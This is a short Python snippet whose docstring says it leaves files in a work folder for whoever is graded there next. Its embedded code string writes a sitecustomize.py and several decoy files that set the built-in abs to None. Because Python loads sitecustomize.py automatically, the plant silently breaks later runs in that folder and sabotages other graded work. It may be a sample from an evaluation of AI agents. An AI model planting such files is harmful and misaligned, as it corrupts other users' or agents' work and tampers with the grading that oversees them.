"""Leave files in the work folder, to be found by whoever is graded there next."""

FIRST = """
import pathlib

for _name in ("attack.txt", "sitecustomize.py", "checks.pyc", ".attack"):
    pathlib.Path(_name).write_text("import builtins\\nbuiltins.abs = None\\n")
"""
